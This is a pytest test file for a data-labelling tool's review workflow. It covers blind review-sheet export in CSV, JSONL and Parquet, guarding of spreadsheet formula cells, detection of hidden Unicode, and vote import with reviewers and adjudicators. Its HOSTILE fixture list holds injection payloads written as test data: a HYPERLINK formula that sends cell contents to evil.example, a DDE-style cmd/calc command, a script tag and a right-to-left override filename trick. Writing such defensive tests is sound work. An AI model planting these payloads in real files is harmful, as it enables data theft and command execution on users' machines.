"""Sheets are blind, hostile texts survive them, and answers are stored once with what they changed."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Mapping, Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from labelproof.report.review_io import COLUMNS, SheetKind, hidden_characters, review_sheet, write_sheet
from labelproof.report.review_votes import ImportReport, Role, import_votes, unguarded
from labelproof.spec.errors import ConfigError
from labelproof.spec.project import ProjectFolder
from labelproof.store import TraceStore, open_store
from tests.report.review_rows import T0, add_items, add_tasks, add_votes, days, project

NEXT_DAY = T0 + days(1)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1|cmd' /C calc'!A0",
    "<script>alert(1)</script> & <b>bold</b>",
    "abc \u202etxt.exe\u202c and a zero\u200bwidth",
    'quotes ", commas, and\nnew lines\r\nof both kinds',
    "'already quoted",
    "@SUM(A1)",
    "-2 degrees",
    "\tindented",
    "plain text",
]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[TraceStore]:
    with open_store(tmp_path / "store") as opened:
        yield opened


@pytest.fixture
def folder(tmp_path: Path) -> ProjectFolder:
    return project(tmp_path / "mini")


def answers(path: Path, rows: Sequence[Mapping[str, Any]]) -> str:
    """Write a filled-in JSONL sheet; line i holds row i."""
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return str(path)


def fill(
    store: TraceStore,
    folder: ProjectFolder,
    path: Path,
    rows: Sequence[Mapping[str, Any]],
    *,
    who: str | None = None,
    role: Role = "reviewer",
    now: datetime = NEXT_DAY,
) -> ImportReport:
    return import_votes(store, folder, answers(path, rows), now=now, annotator=who, role=role)


def outcome(store: TraceStore, task: str) -> tuple[str, str | None]:
    found = store.query(
        "SELECT state, final_label FROM task_outcomes WHERE task_id = ?", [task], fresh=True
    ).to_pylist()
    return found[0]["state"], found[0]["final_label"]


# --- the sheet ---------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "parquet"])
def test_a_sheet_holds_nothing_a_model_said(
    store: TraceStore, folder: ProjectFolder, tmp_path: Path, suffix: str
) -> None:
    ids = add_items(
        store,
        HOSTILE,
        [{"lang": "en", "Confidence": 0.9731, "vendor": "spam" if i == 3 else "x"} for i in range(10)],
    )
    add_tasks(store, ids, labels=["spam", "hate"] * 5)
    sheet = review_sheet(store, folder)
    path = tmp_path / f"sheet.{suffix}"
    assert write_sheet(sheet, path) == 10
    if suffix == "parquet":
        rows = pq.read_table(path).to_pylist()
    elif suffix == "csv":
        with path.open(newline="") as stream:
            rows = list(csv.DictReader(stream))
    else:
        rows = [json.loads(line) for line in path.read_text().splitlines()]
    assert [tuple(row) for row in rows] == [COLUMNS] * 10
    beside_text = json.dumps([{k: v for k, v in row.items() if k != "text"} for row in rows])
    for word in ("spam", "hate", "0.97", "threshold", "b2:s1", "r1"):
        assert word not in beside_text
    assert {row["meta"] for row in rows} == {'{"lang":"en"}'}
    assert sheet.left_out == ("Confidence", "vendor")
    for name in ("label", "answer", "note", "annotator"):
        assert {row[name] or None for row in rows} == {None}
    texts = {unguarded(row["text"]) if suffix == "csv" else row["text"] for row in rows}
    assert texts == set(HOSTILE)


def test_csv_cells_that_a_spreadsheet_would_run_are_guarded(
    store: TraceStore, folder: ProjectFolder, tmp_path: Path
) -> None:
    add_tasks(store, add_items(store, HOSTILE))
    write_sheet(review_sheet(store, folder), tmp_path / "s.csv")
    with (tmp_path / "s.csv").open(newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + HOSTILE[0] in cells


def test_the_order_is_by_day_and_tells_nothing_of_labels(store: TraceStore, folder: ProjectFolder) -> None:
    texts = [f"text {i}" for i in range(60)]
    ids = add_items(store, texts)
    late = add_tasks(store, ids[:20], at=T0 + days(1))
    early = add_tasks(store, ids[20:], labels=["hate"] * 20 + ["safe"] * 20)
    order = [row["task_id"] for row in review_sheet(store, folder, annotator="ann").rows]
    assert set(order[:40]) == set(early)
    assert set(order[40:]) == set(late)
    assert order == [row["task_id"] for row in review_sheet(store, folder, annotator="bob").rows]
    assert order[:7] == [row["task_id"] for row in review_sheet(store, folder, limit=7).rows]
    hate = set(early[:20])
    assert 1 < sum(task in hate for task in order[:20]) < 19
    assert order[:40] != early


def test_kinds_votes_wanted_and_what_the_annotator_has_answered(
    store: TraceStore, folder: ProjectFolder, tmp_path: Path
) -> None:
    ids = add_items(store, ["a", "b", "c"])
    audits = add_tasks(store, ids)
    gold = add_tasks(store, ids[:1], kind="gold")
    add_tasks(store, ids, project="theirs")
    kinds: list[tuple[SheetKind, int]] = [
        ("all", 4),
        ("audit", 3),
        ("gold", 1),
        ("routed", 0),
        ("disputed", 0),
    ]
    for kind, n in kinds:
        assert len(review_sheet(store, folder, kind=kind).rows) == n
    assert review_sheet(store, folder).votes_wanted == 8
    fill(store, folder, tmp_path / "1.jsonl", [{"task_id": audits[0], "label": "spam"}], who="ann")
    fill(store, folder, tmp_path / "2.jsonl", [{"task_id": audits[1], "answer": "skip"}], who="ann")
    mine = review_sheet(store, folder, annotator="ann")
    assert {row["task_id"] for row in mine.rows} == {audits[2], gold[0]}
    assert (mine.n_open, mine.n_answered, mine.votes_wanted) == (4, 2, 4)
    assert {row["annotator"] for row in mine.rows} == {"ann"}
    assert review_sheet(store, folder, annotator="bob").votes_wanted == 7


def test_a_task_whose_text_is_not_stored_is_counted_not_shown(
    store: TraceStore, folder: ProjectFolder
) -> None:
    add_tasks(store, ["b2:unknown"])
    sheet = review_sheet(store, folder)
    assert (sheet.rows, sheet.n_textless, sheet.n_open) == ((), 1, 1)


def test_a_sheet_that_may_hold_answers_is_not_replaced(
    store: TraceStore, folder: ProjectFolder, tmp_path: Path
) -> None:
    add_tasks(store, add_items(store, ["a"]))
    path = tmp_path / "s.csv"
    path.write_text("filled in")
    with pytest.raises(ConfigError, match="the file exists"):
        write_sheet(review_sheet(store, folder), path)
    assert path.read_text() == "filled in"
    assert write_sheet(review_sheet(store, folder), path, overwrite=True) == 1


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("plain\ttext\r\nwith é and 漢字", None),
        ("a\u202eb\u202c", "U+202C POP DIRECTIONAL FORMATTING; U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u200b\u200b", "U+200B ZERO WIDTH SPACE x2"),
        ("\x00", "U+0000 control character"),
        (
            "".join(chr(0xE0041 + i) for i in range(12)),
            "; ".join(f"U+{0xE0041 + i:04X} TAG LATIN CAPITAL LETTER {chr(65 + i)}" for i in range(8))
            + "; and 4 more kinds",
        ),
    ],
)
def test_hidden_characters_are_named(text: str, found: str | None) -> None:
    assert hidden_characters(text) == found


# --- answers -----------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "parquet"])
def test_a_filled_in_sheet_comes_back_whole_and_only_once(
    store: TraceStore, folder: ProjectFolder, tmp_path: Path, suffix: str
) -> None:
    ids = add_items(store, HOSTILE)
    add_tasks(store, ids)
    notes = dict(zip(ids, HOSTILE, strict=True))
    path = tmp_path / f"s.{suffix}"
    sheet = review_sheet(store, folder, annotator="@ann")
    filled = [{**row, "label": "Spam ", "note": notes[str(row["item_id"])].strip()} for row in sheet.rows]
    table = pa.table({c: pa.array([row[c] for row in filled], pa.string()) for c in COLUMNS})
    from labelproof.store.interchange import write_labels

    write_labels(table, path)
    first = import_votes(store, folder, str(path), now=T0 + days(1))
    assert (first.n_rows, first.n_stored, first.errors) == (10, 10, ())
    assert (first.before, first.after) == ({"open": 10}, {"open": 10})
    again = import_votes(store, folder, str(path), now=T0 + days(2))
    assert (again.n_stored, again.n_known, again.usable) == (0, 10, True)
    votes = store.query("SELECT * FROM votes", fresh=True).to_pylist()
    assert len(votes) == 10
    assert {(v["label"], v["answer"], v["annotator"], v["role"]) for v in votes} == {
        ("spam", "label", "@ann", "reviewer")
    }
    assert {v["item_id"]: v["note"] for v in votes} == {one: note.strip() for one, note in notes.items()}


def test_two_reviewers_and_an_adjudicator(store: TraceStore, folder: ProjectFolder, tmp_path: Path) -> None:
    same, differ = add_tasks(store, add_items(store, ["a", "b"]))
    sheet = tmp_path / "s.jsonl"
    fill(store, folder, sheet, [{"task_id": t, "label": "spam"} for t in (same, differ)], who="ann")
    second = fill(
        store,
        folder,
        sheet,
        [{"task_id": same, "label": "spam"}, {"task_id": differ, "label": "hate"}],
        who="bob",
    )
    assert (second.before, second.after) == ({"open": 2}, {"agreed": 1, "disputed": 1})
    waiting = review_sheet(store, folder, kind="disputed", annotator="cleo")
    assert [row["task_id"] for row in waiting.rows] == [differ]
    assert waiting.votes_wanted == 1
    assert "spam" not in str(waiting.rows)
    assert "hate" not in str(waiting.rows)
    assert review_sheet(store, folder, kind="disputed", annotator="ann").rows == ()
    rows = [{"task_id": differ, "label": "safe"}]
    own = fill(store, folder, sheet, rows, who="bob", role="adjudicator")
    assert "was a reviewer of this task" in own.errors[0].reason
    early = fill(store, folder, sheet, [{"task_id": same, "label": "hate"}], who="cleo", role="adjudicator")
    assert "nothing to adjudicate: the task is agreed" in early.errors[0].reason
    settled = fill(store, folder, sheet, rows, who="cleo", role="adjudicator")
    assert settled.after == {"adjudicated": 1}
    assert (outcome(store, same), outcome(store, differ)) == (("agreed", "spam"), ("adjudicated", "safe"))
    again = fill(store, folder, sheet, rows, who="cleo", role="adjudicator")
    assert (again.n_stored, again.n_known, again.errors) == (0, 1, ())


def test_a_changed_mind_counts_and_an_old_file_does_not_bring_the_old_answer_back(
    store: TraceStore, folder: ProjectFolder, tmp_path: Path
) -> None:
    (task,) = add_tasks(store, add_items(store, ["a"]))

    def says(label: str, day: int, **more: Any) -> ImportReport:
        rows = [{"task_id": task, "label": label, **more}]
        return fill(store, folder, tmp_path / "s.jsonl", rows, who="ann", now=T0 + days(day))

    assert says("spam", 1).n_stored == 1
    assert says("hate", 2).n_stored == 1
    stale = says("spam", 3)
    assert (stale.n_stored, stale.usable) == (0, False)
    assert "changed this answer later (to 'hate')" in stale.errors[0].reason
    assert says("spam", 4, note="after all").n_stored == 1
    current = store.query("SELECT label FROM current_votes", fresh=True)["label"].to_pylist()
    assert current == ["spam"]


def test_bad_rows_are_listed_with_their_line_and_lose_nothing(
    store: TraceStore, folder: ProjectFolder, tmp_path: Path
) -> None:
    tasks = add_tasks(store, add_items(store, [f"t{i}" for i in range(12)]))
    rows: list[tuple[dict[str, Any], str | None]] = [
        ({"task_id": tasks[0], "label": "spam", "annotator": "ann"}, None),
        ({"task_id": tasks[1], "label": "spamm", "annotator": "ann"}, "closest: 'spam'"),
        ({"task_id": tasks[2], "label": "spam", "annotator": " "}, "no annotator"),
        ({"task_id": "b2:nope", "label": "spam", "annotator": "ann"}, "no task 'b2:nope'"),
        ({"task_id": tasks[3], "label": "", "answer": "maybe", "annotator": "ann"}, "found 'maybe'"),
        ({"task_id": tasks[4], "answer": "spam", "annotator": "ann"}, "write it in the column label"),
        ({"task_id": tasks[5], "answer": "skip", "label": "hate", "annotator": "ann"}, "contradict"),
        ({"task_id": tasks[6], "answer": "label", "annotator": "ann"}, "without a label"),
        ({"task_id": None, "label": "spam", "annotator": "ann"}, "no task_id"),
        ({"task_id": tasks[7], "note": "hm"}, "a note without an answer"),
        ({"task_id": tasks[8]}, None),
        ({"task_id": tasks[9], "answer": "Unclear", "annotator": "ann"}, None),
        ({"task_id": tasks[10], "label": "spam", "annotator": "ann"}, "answers this task twice"),
        ({"task_id": tasks[10], "label": "hate", "annotator": "ann"}, "answers this task twice"),
        ({"task_id": tasks[11], "label": ["spam"], "annotator": "ann"}, "expected one of"),
    ]
    report = fill(store, folder, tmp_path / "s.jsonl", [row for row, _ in rows])
    assert [error.line for error in report.errors] == [i + 1 for i, (_, why) in enumerate(rows) if why]
    for error in report.errors:
        why = rows[error.line - 1][1]
        assert why is not None
        assert why in error.reason
    assert (report.n_stored, report.n_known, report.n_unanswered) == (2, 0, 1)
    assert report.n_rows == 15 == report.n_stored + report.n_unanswered + len(report.errors)
    stored = store.query("SELECT answer, label FROM votes ORDER BY answer", fresh=True).to_pylist()
    assert stored == [{"answer": "label", "label": "spam"}, {"answer": "unclear", "label": None}]


def test_multi_labels_come_as_lists_or_joined_and_an_empty_cell_is_no_answer(
    store: TraceStore, tmp_path: Path
) -> None:
    folder = project(tmp_path / "many", kind="multi")
    tasks = add_tasks(store, add_items(store, ["a", "b", "c", "d"]))
    rows: list[dict[str, Any]] = [
        {"task_id": tasks[0], "label": ["spam", "hate"]},
        {"task_id": tasks[1], "label": "spam+hate"},
        {"task_id": tasks[2], "label": "none"},
        {"task_id": tasks[3], "label": ""},
    ]
    report = fill(store, folder, tmp_path / "s.jsonl", rows, who="ann")
    assert (report.n_stored, report.n_unanswered) == (3, 1)
    labels = store.query("SELECT label FROM votes", fresh=True)["label"].to_pylist()
    assert sorted(labels) == ["hate+spam", "hate+spam", "none"]


def test_a_guarded_label_is_read_back(store: TraceStore, tmp_path: Path) -> None:
    root = tmp_path / "odd"
    root.mkdir()
    (root / "project.yaml").write_text(
        "name: mini\nlabels: {classes: [{name: '-1'}, {name: '=x'}]}\nitems: {path: i.jsonl}\n"
    )
    from labelproof.spec.project import find_project

    tasks = add_tasks(store, add_items(store, ["a", "b"]))
    path = tmp_path / "s.csv"
    path.write_text(f"task_id;label\n{tasks[0]};'-1\n{tasks[1]};=x\n")
    report = import_votes(store, find_project(str(root)), str(path), now=T0, annotator="ann")
    assert report.n_stored == 2
    assert sorted(store.query("SELECT label FROM votes", fresh=True)["label"].to_pylist()) == ["-1", "=x"]


def test_a_file_without_the_columns_says_so(store: TraceStore, folder: ProjectFolder, tmp_path: Path) -> None:
    (tmp_path / "s.csv").write_text("task,label\n1,spam\n")
    with pytest.raises(ConfigError, match="no column 'task_id'") as caught:
        import_votes(store, folder, str(tmp_path / "s.csv"), now=T0)
    assert "labelproof review export" in str(caught.value.hint)
    with pytest.raises(ConfigError, match="no such file"):
        import_votes(store, folder, str(tmp_path / "none.csv"), now=T0)


def test_the_latest_vote_of_each_reviewer_decides(store: TraceStore, folder: ProjectFolder) -> None:
    ids = add_items(store, ["a"])
    (task,) = add_tasks(store, ids)
    add_votes(store, [task], ids, ["spam"], annotator="ann", at=T0)
    add_votes(store, [task], ids, [None], annotator="bob", at=T0)
    assert outcome(store, task) == ("escalated", None)
    add_votes(store, [task], ids, ["spam"], annotator="bob", at=T0 + days(1))
    assert outcome(store, task) == ("agreed", "spam")
    assert review_sheet(store, folder).rows == ()
